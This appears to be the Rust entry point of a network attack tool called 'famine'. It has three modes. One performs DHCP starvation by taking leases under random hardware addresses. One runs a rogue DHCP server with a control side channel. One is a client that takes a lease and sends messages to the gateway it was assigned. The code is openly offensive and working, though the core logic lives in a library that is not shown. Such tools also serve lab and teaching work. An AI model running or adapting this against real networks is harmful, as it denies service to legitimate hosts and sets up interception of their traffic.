use clap::Parser;
use famine::{
    client,
    config::{Role, CONTROL_PORT},
    control, network,
    v4::HardwareAddr,
    Args, AttackConfig, AttackDriver, ClientConfig, RequestPolicy, RogueServer, ServerConfig,
};
use std::{
    error::Error as StdError,
    io::Write as _,
    net::{Ipv4Addr, SocketAddr},
    time::Duration,
};
use tokio::io::{AsyncBufReadExt as _, BufReader};
use tracing_subscriber::EnvFilter;

async fn run_attack(
    interface: String,
    iterations: usize,
    timeout: u64,
    server_port: u16,
) -> Result<(), Box<dyn StdError>> {
    let mut config = AttackConfig::new(interface);
    config.iterations = iterations;
    config.client.reply_timeout = Duration::from_secs(timeout);
    config.client.server_port = server_port;

    tracing::info!(
        "Starting DHCP starvation on '{}' ({} handshakes)",
        config.client.interface,
        config.iterations
    );
    let socket = network::new_tokio_socket_bound_to_device(
        &config.client.interface,
        config.client.client_port,
    )?;

    let report = AttackDriver::new(&socket, config).run().await;
    println!(
        "Took {} addresses in {} attempts ({} failed)",
        report.bound(),
        report.attempts,
        report.failures
    );
    Ok(())
}

async fn run_server(mut config: ServerConfig) -> Result<(), Box<dyn StdError>> {
    let dhcp = network::new_tokio_socket_bound_to_device(&config.interface, config.server_port)?;
    let side_channel =
        network::new_tokio_socket_bound_to_device(&config.interface, config.control_port)?;
    if config.server_ip.is_unspecified() {
        config.server_ip = network::interface_ipv4(&config.interface)?;
    }
    tracing::info!("My IP address {}", config.server_ip);

    let mut server = RogueServer::new(config)?;
    server.run(&dhcp, &side_channel).await?;
    Ok(())
}

async fn run_client(
    config: ClientConfig,
    mac: Option<String>,
    messages: usize,
) -> Result<(), Box<dyn StdError>> {
    let hardware_addr = match mac {
        Some(mac) => mac.parse()?,
        None => HardwareAddr::random(&mut rand::rng()),
    };
    tracing::info!("Client starting as {}", hardware_addr);

    let socket = network::new_tokio_socket_bound_to_device(&config.interface, config.client_port)?;
    let lease = client::acquire_lease(&socket, &config, hardware_addr).await?;

    let gateway = lease
        .gateway
        .or(lease.server_identifier)
        .ok_or("lease names no gateway")?;
    println!("Bound to {}, default gateway is {}", lease.offered_ip, gateway);

    let target = SocketAddr::from((gateway, CONTROL_PORT));
    let mut lines = BufReader::new(tokio::io::stdin()).lines();
    for _ in 0..messages {
        print!("Enter message: ");
        std::io::stdout().flush()?;
        let Some(line) = lines.next_line().await? else {
            break;
        };
        control::send_message(&socket, target, &line, &config.retry).await?;
    }
    Ok(())
}

#[tokio::main]
async fn main() -> Result<(), Box<dyn StdError>> {
    tracing_subscriber::fmt()
        .with_env_filter(
            EnvFilter::try_from_default_env().unwrap_or_else(|_| EnvFilter::new("info")),
        )
        .init();

    let args = Args::parse();

    match args.role {
        Role::Attack {
            iterations,
            timeout,
            server_port,
        } => run_attack(args.interface, iterations, timeout, server_port).await,
        Role::Server {
            server_ip,
            pool_start,
            pool_end,
            lease_time,
            offered_only,
        } => {
            let mut config =
                ServerConfig::new(args.interface, server_ip.unwrap_or(Ipv4Addr::UNSPECIFIED));
            config.pool_start = pool_start;
            config.pool_end = pool_end;
            config.lease_time = lease_time;
            if offered_only {
                config.request_policy = RequestPolicy::OfferedOnly;
            }
            run_server(config).await
        }
        Role::Client {
            mac,
            timeout,
            messages,
            server_port,
        } => {
            let mut config = ClientConfig::new(args.interface);
            config.reply_timeout = Duration::from_secs(timeout);
            config.server_port = server_port;
            run_client(config, mac, messages).await
        }
    }
}
